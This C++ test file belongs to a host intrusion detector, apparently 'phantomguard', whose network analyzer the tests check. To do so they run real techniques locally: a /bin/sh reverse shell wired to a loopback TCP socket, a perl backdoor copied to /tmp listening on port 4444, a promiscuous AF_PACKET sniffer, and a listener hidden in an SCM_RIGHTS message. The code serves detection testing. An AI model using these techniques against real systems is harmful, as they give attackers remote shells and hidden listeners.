// SPDX-License-Identifier: Apache-2.0
// Each scenario performs the technique for real on this machine and asserts the finding. The
// scenarios that need their own network namespace (a listener nobody owns, a sniffer putting an
// interface in promiscuous mode) run in a child inside a fresh namespace with its own sysfs, so
// the host's interfaces and sockets are never touched; they need root and say so otherwise.
#include <catch2/catch.hpp>

#include <arpa/inet.h>
#include <cstring>
#include <grp.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>

#include "../process/child_process.hpp"
#include "../process/test_lineage.hpp"
#include "../support/test_context.hpp"

#include "phantomguard/actors/host/socket_table.hpp"
#include "phantomguard/actors/network/network_analyzer.hpp"
#include "phantomguard/actors/network/register.hpp"
#include "phantomguard/actors/process/process_analyzer.hpp"
#include "skip.hpp"

using namespace pg;
using actors::network::network_analyzer;
using runtime::severity;

namespace {

class fd_guard {
public:
  explicit fd_guard(int fd = -1) : fd_(fd) {}
  fd_guard(const fd_guard&) = delete;
  fd_guard& operator=(const fd_guard&) = delete;
  fd_guard(fd_guard&& o) noexcept : fd_(std::exchange(o.fd_, -1)) {}
  ~fd_guard() {
    if (fd_ >= 0)
      ::close(fd_);
  }
  [[nodiscard]] int get() const noexcept { return fd_; }
  int release() noexcept { return std::exchange(fd_, -1); }

private:
  int fd_;
};

// A TCP listener on `addr`:`port` (port 0 = ephemeral); returns the fd and the bound port.
fd_guard listen_tcp(std::uint32_t addr, std::uint16_t port, std::uint16_t* bound) {
  fd_guard fd(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
  int one = 1;
  ::setsockopt(fd.get(), SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_addr.s_addr = htonl(addr);
  sa.sin_port = htons(port);
  if (::bind(fd.get(), reinterpret_cast<sockaddr*>(&sa), sizeof sa) != 0 ||
      ::listen(fd.get(), 8) != 0)
    return fd_guard();
  socklen_t len = sizeof sa;
  ::getsockname(fd.get(), reinterpret_cast<sockaddr*>(&sa), &len);
  if (bound)
    *bound = ntohs(sa.sin_port);
  return fd;
}

std::vector<const runtime::finding*> about(const test::test_context& ctx, std::string_view rule,
                                           pid_t pid) {
  std::vector<const runtime::finding*> out;
  for (const auto* f : ctx.with_rule(rule))
    if (f->entity.value("pid", -1) == pid)
      out.push_back(f);
  return out;
}

std::string dump(const test::test_context& ctx, std::string_view prefix) {
  std::string s;
  for (const auto& f : ctx.findings)
    if (f.rule.rfind(prefix, 0) == 0 && f.rule != "network.unreadable")
      s += f.to_jsonl() + "\n";
  return s;
}

network_analyzer::options options_with_ports(std::vector<std::string> ports) {
  auto o = network_analyzer::default_options();
  o.suspicious_ports = *network_analyzer::parse_ports(ports);
  return o;
}

// Runs `body` in a child inside a new network and mount namespace with a private sysfs at
// `sys_root`; the child's exit code is `body`'s (0 = as expected); `why` receives its message.
int in_new_netns(const std::function<int(const std::string& sys_root, std::string& why)>& body,
                 std::string& why) {
  int pipefd[2];
  if (::pipe(pipefd) != 0)
    return 100;
  auto child = test::spawn([&] {
    ::close(pipefd[0]);
    std::string msg;
    int rc = [&] {
      if (::unshare(CLONE_NEWNET | CLONE_NEWNS) != 0)
        return (msg = "unshare: " + std::string(std::strerror(errno)), 101);
      if (::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0)
        return (msg = "make-private: " + std::string(std::strerror(errno)), 102);
      char templ[] = "/tmp/pg-sysfs-XXXXXX";
      if (!::mkdtemp(templ))
        return (msg = "mkdtemp", 103);
      std::string sys_root = templ;
      if (::mount("sysfs", sys_root.c_str(), "sysfs", 0, nullptr) != 0)
        return (msg = "mount sysfs: " + std::string(std::strerror(errno)), 104);
      // Bring lo up so it behaves like a real interface.
      fd_guard s(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
      ifreq ifr{};
      std::strncpy(ifr.ifr_name, "lo", IFNAMSIZ - 1);
      if (::ioctl(s.get(), SIOCGIFFLAGS, &ifr) == 0) {
        ifr.ifr_flags = static_cast<short>(ifr.ifr_flags | IFF_UP);
        ::ioctl(s.get(), SIOCSIFFLAGS, &ifr);
      }
      int r = body(sys_root, msg);
      ::umount2(sys_root.c_str(), MNT_DETACH);
      ::rmdir(sys_root.c_str());
      return r;
    }();
    if (::write(pipefd[1], msg.data(), msg.size()) < 0)
      rc = 105;
    return rc;
  });
  ::close(pipefd[1]);
  char buf[4096];
  ssize_t n = 0;
  while ((n = ::read(pipefd[0], buf, sizeof buf)) > 0)
    why.append(buf, static_cast<std::size_t>(n));
  ::close(pipefd[0]);
  return child.wait();
}

} // namespace

SCENARIO("network.reverse_shell: /bin/sh whose standard streams are a TCP connection") {
  GIVEN("a local listener and a shell connected to it with stdin, stdout and stderr") {
    std::uint16_t port = 0;
    auto listener = listen_tcp(INADDR_LOOPBACK, 0, &port);
    REQUIRE(listener.get() >= 0);
    auto shell = test::spawn([&] {
      int s = ::socket(AF_INET, SOCK_STREAM, 0);
      sockaddr_in sa{};
      sa.sin_family = AF_INET;
      sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
      sa.sin_port = htons(port);
      if (::connect(s, reinterpret_cast<sockaddr*>(&sa), sizeof sa) != 0)
        return 1;
      ::dup2(s, 0);
      ::dup2(s, 1);
      ::dup2(s, 2);
      ::execl("/bin/sh", "sh", "-i", static_cast<char*>(nullptr));
      return 2;
    });
    fd_guard conn(::accept4(listener.get(), nullptr, nullptr, SOCK_CLOEXEC));
    REQUIRE(conn.get() >= 0);
    // Prove it is a working shell: ask it for arithmetic only a shell would do.
    const char cmd[] = "echo pg-$((6*7))\n";
    REQUIRE(::write(conn.get(), cmd, sizeof cmd - 1) == static_cast<ssize_t>(sizeof cmd - 1));
    std::string out;
    REQUIRE(test::eventually([&] {
      char buf[256];
      ssize_t n = ::recv(conn.get(), buf, sizeof buf, MSG_DONTWAIT);
      if (n > 0)
        out.append(buf, static_cast<std::size_t>(n));
      return out.find("pg-42") != std::string::npos;
    }));
    WHEN("the network analyzer ticks") {
      network_analyzer a(network_analyzer::default_options());
      test::test_context ctx("net");
      a.on_tick(ctx);
      THEN("a critical network.reverse_shell names the shell and the peer") {
        auto hits = about(ctx, "network.reverse_shell", shell.pid());
        INFO(dump(ctx, "network."));
        REQUIRE(hits.size() == 1);
        CHECK(hits[0]->level == severity::critical);
        CHECK(hits[0]->entity["comm"] == "sh");
        CHECK(hits[0]->evidence["remote_port"] == port);
        CHECK(hits[0]->evidence["remote_address"] == "127.0.0.1");
        CHECK(hits[0]->evidence["stdio_fds"] == nlohmann::json::array({0, 1, 2}));
        CHECK(hits[0]->evidence["interpreter"] == true);
      }
      THEN("the listener we hold is a socket event owned by this test") {
        bool found = false;
        for (const auto* e : ctx.of_kind("socket"))
          if (e->get_int("local_port") == port && e->get_bool("listening"))
            found = e->get_int("pid") == ::getpid() && e->get_string("owner") == "known" &&
                    e->get_string("exe") == test::exe_of(::getpid());
        CHECK(found);
        CHECK(ctx.gauges["listeners"] >= 1);
        CHECK(ctx.gauges["connections"] >= 2);
      }
    }
  }
}

SCENARIO("network.suspicious_port: a binary copied to /tmp listens on a backdoor port") {
  GIVEN("perl copied to /tmp, listening on a port configured as suspicious") {
    // 4444 is on the default list; if something on this machine holds it, use a free port and
    // configure that one: the point is that a configured port is caught.
    std::uint16_t port = 4444;
    {
      auto probe = listen_tcp(INADDR_LOOPBACK, port, nullptr);
      if (probe.get() < 0) {
        auto any = listen_tcp(INADDR_LOOPBACK, 0, &port);
        REQUIRE(any.get() >= 0);
      }
    }
    test::temp_dir dir("/tmp");
    const std::string copy = dir.path() + "/perl";
    REQUIRE(test::copy_executable("/usr/bin/perl", copy));
    int ready[2];
    REQUIRE(::pipe(ready) == 0);
    auto backdoor = test::spawn([&] {
      ::close(ready[0]);
      ::dup2(ready[1], 1);
      const std::string script =
          "use Socket; socket(S, PF_INET, SOCK_STREAM, 0) or die; "
          "setsockopt(S, SOL_SOCKET, SO_REUSEADDR, 1); "
          "bind(S, sockaddr_in($ARGV[0], INADDR_LOOPBACK)) or die \"bind: $!\"; listen(S, 5); "
          "$| = 1; print \"ready\\n\"; sleep 30;";
      ::execl(copy.c_str(), "perl", "-e", script.c_str(), std::to_string(port).c_str(),
              static_cast<char*>(nullptr));
      return 1;
    });
    ::close(ready[1]);
    char buf[16] = {};
    REQUIRE(::read(ready[0], buf, sizeof buf - 1) > 0);
    ::close(ready[0]);
    REQUIRE(std::string(buf) == "ready\n");
    WHEN("the network and process analyzers run") {
      network_analyzer net(options_with_ports({std::to_string(port)}));
      test::test_context nctx("net");
      net.on_tick(nctx);
      actors::process::process_analyzer proc(actors::process::process_analyzer::default_options());
      test::test_context pctx("proc");
      proc.scan(pctx);
      THEN("network.suspicious_port names the port and the /tmp binary") {
        auto hits = about(nctx, "network.suspicious_port", backdoor.pid());
        INFO(dump(nctx, "network."));
        REQUIRE(hits.size() == 1);
        CHECK(hits[0]->level == severity::high);
        CHECK(hits[0]->entity["port"] == port);
        CHECK(hits[0]->entity["exe"] == copy);
        CHECK(hits[0]->evidence["direction"] == "listen");
        CHECK(hits[0]->mitre == std::vector<std::string>{"T1571"});
      }
      THEN("process.exe_in_temp reports the same process") {
        CHECK(about(pctx, "process.exe_in_temp", backdoor.pid()).size() == 1);
      }
    }
    WHEN("a client connects to it") {
      fd_guard client(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
      sockaddr_in sa{};
      sa.sin_family = AF_INET;
      sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
      sa.sin_port = htons(port);
      REQUIRE(::connect(client.get(), reinterpret_cast<sockaddr*>(&sa), sizeof sa) == 0);
      network_analyzer net(options_with_ports({std::to_string(port)}));
      test::test_context nctx("net");
      net.on_tick(nctx);
      THEN("the outbound connection is a finding about the client: this test") {
        auto hits = about(nctx, "network.suspicious_port", ::getpid());
        REQUIRE(hits.size() == 1);
        CHECK(hits[0]->evidence["direction"] == "outbound");
        AND_THEN("a second tick does not repeat findings whose condition persists") {
          test::test_context again("net");
          net.on_tick(again);
          CHECK(again.with_rule("network.suspicious_port").empty());
        }
        AND_THEN("nor does a restarted instance given the snapshot") {
          network_analyzer restarted(options_with_ports({std::to_string(port)}));
          restarted.restore(net.snapshot());
          test::test_context again("net");
          restarted.on_tick(again);
          CHECK(again.with_rule("network.suspicious_port").empty());
        }
      }
    }
  }
}

SCENARIO("network.packet_socket and network.promiscuous: a sniffer on an interface") {
  if (!test::is_root()) {
    PG_SKIP("not root: AF_PACKET sockets and namespaces need root; skipped");
  }
  GIVEN("in a fresh network namespace, an AF_PACKET socket asking lo for promiscuous mode") {
    std::string why;
    int rc = in_new_netns(
        [](const std::string& sys_root, std::string& msg) {
          fd_guard sniff(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL)));
          if (sniff.get() < 0)
            return (msg = "socket(AF_PACKET): " + std::string(std::strerror(errno)), 1);
          packet_mreq mr{};
          mr.mr_ifindex = static_cast<int>(::if_nametoindex("lo"));
          mr.mr_type = PACKET_MR_PROMISC;
          if (::setsockopt(sniff.get(), SOL_PACKET, PACKET_ADD_MEMBERSHIP, &mr, sizeof mr) != 0)
            return (msg = "PACKET_ADD_MEMBERSHIP: " + std::string(std::strerror(errno)), 2);
          auto o = network_analyzer::default_options();
          o.sys_root = sys_root;
          network_analyzer a(o);
          test::test_context ctx("net");
          a.on_tick(ctx);
          msg = dump(ctx, "network.");
          auto pkt = about(ctx, "network.packet_socket", ::getpid());
          if (pkt.size() != 1 || pkt[0]->level != severity::medium)
            return 3;
          auto promisc = ctx.with_rule("network.promiscuous");
          if (promisc.size() != 1 || promisc[0]->entity["interface"] != "lo")
            return 4;
          // The sniffer is named on the interface finding.
          const auto& owners = promisc[0]->evidence["packet_socket_owners"];
          if (owners.empty() || owners[0]["pid"] != ::getpid())
            return 5;
          // Closing the socket ends promiscuous mode; the next tick has no such finding.
          ::close(sniff.release());
          test::test_context after("net");
          a.on_tick(after);
          if (!after.with_rule("network.promiscuous").empty() ||
              !after.with_rule("network.packet_socket").empty())
            return 6;
          return 0;
        },
        why);
    THEN("both findings name the sniffer, and vanish with it") {
      INFO(why);
      CHECK(rc == 0);
    }
  }
}

SCENARIO("network.listener_unowned: a listening socket no process holds") {
  if (!test::is_root()) {
    PG_SKIP("not root: a private network namespace needs root; skipped");
  }
  GIVEN("a listener whose only reference is in flight in an SCM_RIGHTS message") {
    std::string why;
    int rc = in_new_netns(
        [](const std::string& sys_root, std::string& msg) {
          std::uint16_t hidden_port = 0;
          std::uint16_t owned_port = 0;
          auto hidden = listen_tcp(INADDR_ANY, 0, &hidden_port);
          auto owned = listen_tcp(INADDR_ANY, 0, &owned_port);
          int sp[2];
          if (hidden.get() < 0 || owned.get() < 0 ||
              ::socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sp) != 0)
            return (msg = "setup failed", 1);
          // Send the listener to ourselves and close it: the kernel keeps it alive in the
          // unread message, where no /proc/PID/fd shows it.
          char byte = 'x';
          iovec iov{&byte, 1};
          alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
          msghdr mh{};
          mh.msg_iov = &iov;
          mh.msg_iovlen = 1;
          mh.msg_control = control;
          mh.msg_controllen = sizeof control;
          cmsghdr* cm = CMSG_FIRSTHDR(&mh);
          cm->cmsg_level = SOL_SOCKET;
          cm->cmsg_type = SCM_RIGHTS;
          cm->cmsg_len = CMSG_LEN(sizeof(int));
          int hfd = hidden.get();
          std::memcpy(CMSG_DATA(cm), &hfd, sizeof hfd);
          if (::sendmsg(sp[0], &mh, 0) != 1)
            return (msg = "sendmsg failed", 2);
          ::close(hidden.release());
          auto o = network_analyzer::default_options();
          o.sys_root = sys_root;
          network_analyzer a(o);
          test::test_context ctx("net");
          a.on_tick(ctx);
          msg = dump(ctx, "network.");
          auto hits = ctx.with_rule("network.listener_unowned");
          if (hits.size() != 1)
            return 3;
          if (hits[0]->entity["port"] != hidden_port || hits[0]->level != severity::high)
            return 4;
          for (const auto* e : ctx.of_kind("socket"))
            if (e->get_int("local_port") == owned_port && e->get_int("pid") != ::getpid())
              return 5;
          return 0;
        },
        why);
    THEN("exactly that listener is reported, the owned one is not") {
      INFO(why);
      CHECK(rc == 0);
    }
  }
}

SCENARIO("without CAP_SYS_PTRACE, listeners of unreadable processes are unknown, not unowned") {
  if (!test::is_root()) {
    PG_SKIP("not root: cannot drop to another user; skipped");
  }
  GIVEN("a root-owned listener and the analyzer running as nobody") {
    std::uint16_t port = 0;
    auto listener = listen_tcp(INADDR_LOOPBACK, 0, &port);
    REQUIRE(listener.get() >= 0);
    auto child = test::spawn([&] {
      ::close(listener.get()); // the fork inherited it: the parent alone must own it
      if (::setgroups(0, nullptr) != 0 || ::setresgid(65534, 65534, 65534) != 0 ||
          ::setresuid(65534, 65534, 65534) != 0)
        return 10;
      network_analyzer a(network_analyzer::default_options());
      test::test_context ctx("net");
      a.on_tick(ctx);
      for (const auto* f : ctx.with_rule("network.listener_unowned"))
        if (f->entity["port"] == port)
          return 11;
      bool unknown = false;
      for (const auto* e : ctx.of_kind("socket"))
        if (e->get_int("local_port") == port)
          unknown = e->get_string("owner") == "unknown";
      if (!unknown)
        return 12;
      auto info = ctx.with_rule("network.unreadable");
      if (info.size() != 1 || info[0]->evidence["privilege"] != "CAP_SYS_PTRACE" ||
          info[0]->evidence["have_privilege"] != false || info[0]->level != severity::info)
        return 13;
      return 0;
    });
    THEN("no listener_unowned for it, owner unknown, one info finding naming CAP_SYS_PTRACE") {
      CHECK(child.wait() == 0);
    }
  }
}

SCENARIO("connection events can be sampled, deterministically or at random") {
  GIVEN("2000 distinct connections") {
    std::vector<actors::host::socket_entry> conns(2000);
    for (std::size_t i = 0; i < conns.size(); ++i) {
      conns[i].proto = actors::host::socket_proto::tcp;
      conns[i].local_address = "10.0.0.1";
      conns[i].local_port = static_cast<std::uint16_t>(40000 + i);
      conns[i].remote_address = "192.0.2.7";
      conns[i].remote_port = 443;
    }
    THEN("deterministic sampling keeps about the rate, and the same ones every time") {
      std::size_t kept = 0;
      for (const auto& c : conns) {
        bool k = network_analyzer::keep_deterministic(c, 0.25);
        CHECK(k == network_analyzer::keep_deterministic(c, 0.25));
        kept += k;
      }
      CHECK(kept > 400);
      CHECK(kept < 600);
      CHECK(network_analyzer::keep_deterministic(conns[0], 1.0));
      CHECK_FALSE(network_analyzer::keep_deterministic(conns[0], 0.0));
    }
  }
  GIVEN("a real connection on this machine") {
    std::uint16_t port = 0;
    auto listener = listen_tcp(INADDR_LOOPBACK, 0, &port);
    fd_guard client(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    sa.sin_port = htons(port);
    REQUIRE(::connect(client.get(), reinterpret_cast<sockaddr*>(&sa), sizeof sa) == 0);
    for (auto mode : {network_analyzer::sampling_mode::deterministic,
                      network_analyzer::sampling_mode::random}) {
      auto o = network_analyzer::default_options();
      o.sampling = mode;
      o.sampling_rate = 0.0;
      network_analyzer a(o);
      test::test_context ctx("net");
      a.on_tick(ctx);
      THEN("rate 0 drops every connection event but keeps the listener") {
        bool listener_seen = false;
        for (const auto* e : ctx.of_kind("socket")) {
          CHECK(!(e->get_string("state") == "ESTABLISHED" && e->get_string("proto") != "packet"));
          listener_seen = listener_seen || e->get_int("local_port") == port;
        }
        CHECK(listener_seen);
        CHECK(ctx.counters["connections_sampled_out"] >= 2);
      }
    }
  }
}

SCENARIO("suspicious ports parse from numbers and ranges, and bad ones are refused") {
  CHECK(network_analyzer::parse_ports({"4444", "6660-6669"})->size() == 2);
  CHECK((*network_analyzer::parse_ports({"6660-6669"}))[0].contains(6665));
  std::string error;
  CHECK_FALSE(network_analyzer::parse_ports({"70000"}, &error));
  CHECK(error.find("70000") != std::string::npos);
  CHECK_FALSE(network_analyzer::parse_ports({"9-3"}));
  runtime::registry reg;
  actors::network::register_components(reg);
  const auto* t = reg.find(runtime::component_kind::analyzer, "network");
  REQUIRE(t != nullptr);
  runtime::component_init init;
  init.name = "net";
  toml::table bad{{"suspicious_ports", toml::array{4444, "x"}}};
  init.settings = runtime::component_settings(bad);
  CHECK_THROWS_WITH(t->factory(init), Catch::Contains("\"x\""));
}

SCENARIO("clean host: this machine's sockets raise no high or critical finding") {
  network_analyzer a(network_analyzer::default_options());
  test::test_context ctx("net");
  auto ours = test::set_aside_around(PG_SOURCE_DIR, [&] { a.on_tick(ctx); });
  std::string bad;
  for (const auto& f : ctx.findings) {
    // Findings about a process are judged while it lives; the others (interfaces, unowned
    // listeners) always.
    auto pid = f.entity.value("pid", -1);
    bool judged = pid < 0 ? true : (!ours.count(pid) && test::alive(pid));
    if (f.level >= severity::high && judged)
      bad += f.to_jsonl() + "\n";
  }
  INFO(bad);
  CHECK(bad.empty());
  CHECK(!ctx.of_kind("socket").empty());
}
